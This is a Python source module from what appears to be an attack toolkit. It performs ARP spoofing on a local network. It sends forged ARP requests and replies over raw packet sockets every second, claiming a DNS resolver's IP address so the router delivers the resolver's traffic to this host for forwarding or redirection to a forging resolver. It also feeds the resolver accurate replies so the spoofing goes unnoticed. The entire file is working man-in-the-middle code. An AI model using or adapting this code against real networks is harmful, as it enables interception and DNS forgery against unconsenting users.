"""Claims the resolver's address on the internet link, so that the router sends the isp what is meant for the resolver.

RFC 826 believes whoever speaks last: the isp tells the router, and only the router, every second that the resolver's
address is at the isp's hardware address, and answers when the router asks. The resolver would speak up when it checks
whether the router is still where it was, which Linux does every half minute or so, by a question that carries its own
address: so it is told, truly, where the router is, and need not ask. The end is told as well, with the right address.
What arrives is forwarded, or redirected to `forging_resolver`.
"""

from __future__ import annotations

import contextlib
import fcntl
import select
import socket
import struct
import threading
import time
from ipaddress import IPv4Address

from attack.arp import BROADCAST, ETHERTYPE, REPLY, REQUEST, ArpPacket, frame, parse
from attack.boundary import Place

_EVERY_S = 1.0
_PATIENCE_S = 2.0
_FAREWELLS = 3
_SIOCGIFADDR, _SIOCGIFHWADDR = 0x8915, 0x8927


class ClaimFailed(RuntimeError):
    """The resolver's address cannot be claimed; the text says why."""


class ClaimedAddress:
    """The resolver's address, claimed from construction to `close`. Raises ClaimFailed, OSError."""

    def __init__(self, place: Place) -> None:
        self._place = place
        device = _device_with(place.internet)
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETHERTYPE))
        try:
            self._socket.bind((device, ETHERTYPE))
            self._own = _hardware_address(device)
            self._router = self._ask(place.router)
            self._resolver = self._ask(place.resolver)
        except BaseException:
            self._socket.close()
            raise
        self._ended = threading.Event()
        self._claim(self._own)
        self._thread = threading.Thread(target=self._keep_claiming, daemon=True)
        self._thread.start()

    def close(self) -> None:
        """Tell the router the truth."""
        self._ended.set()
        self._thread.join()
        for _ in range(_FAREWELLS):
            self._claim(self._resolver)
        self._socket.close()

    def _claim(self, hardware: bytes) -> None:
        """Tell the router where the resolver's address is: as a question, which Linux learns from at once. Before, the
        resolver is told where the router is: as an answer, which spares it a question."""
        truth = ArpPacket(REPLY, self._router, self._place.router, self._resolver, self._place.resolver)
        self._socket.send(frame(truth, self._own, self._resolver))
        claim = ArpPacket(REQUEST, hardware, self._place.resolver, bytes(6), self._place.router)
        self._socket.send(frame(claim, self._own, self._router))

    def _keep_claiming(self) -> None:
        due = time.monotonic() + _EVERY_S
        while not self._ended.is_set():
            heard = self._hear(min(0.1, max(0.0, due - time.monotonic())))
            if heard and heard.operation == REQUEST and self._is_routers_question(heard):
                answer = ArpPacket(REPLY, self._own, self._place.resolver, self._router, self._place.router)
                self._socket.send(frame(answer, self._own, self._router))
            if time.monotonic() >= due:
                self._claim(self._own)
                due = time.monotonic() + _EVERY_S

    def _is_routers_question(self, heard: ArpPacket) -> bool:
        return (heard.sender, heard.target) == (self._place.router, self._place.resolver)

    def _ask(self, address: IPv4Address) -> bytes:
        """The hardware address of `address`."""
        question = ArpPacket(REQUEST, self._own, self._place.internet, bytes(6), address)
        self._socket.send(frame(question, self._own, BROADCAST))
        end = time.monotonic() + _PATIENCE_S
        while (left := end - time.monotonic()) > 0:
            heard = self._hear(left)
            if heard and heard.operation == REPLY and heard.sender == address:
                return heard.sender_hardware
        raise ClaimFailed(f"{address} does not answer to ARP on the internet link")

    def _hear(self, timeout_s: float) -> ArpPacket | None:
        readable, _, _ = select.select([self._socket], [], [], timeout_s)
        return parse(self._socket.recv(2048)) if readable else None


def own_addresses() -> set[IPv4Address]:
    """The IPv4 addresses of this host's devices."""
    return {address for _, address in _devices()}


def _device_with(address: IPv4Address) -> str:
    for device, own in _devices():
        if own == address:
            return device
    raise ClaimFailed(f"no device of this host has {address}")


def _devices() -> list[tuple[str, IPv4Address]]:
    found = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        for _, device in socket.if_nameindex():
            request = struct.pack("256s", device.encode()[:15])
            with contextlib.suppress(OSError):  # a device without an address
                found.append((device, IPv4Address(fcntl.ioctl(asking, _SIOCGIFADDR, request)[20:24])))
    return found


def _hardware_address(device: str) -> bytes:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        return fcntl.ioctl(asking, _SIOCGIFHWADDR, struct.pack("256s", device.encode()[:15]))[18:24]
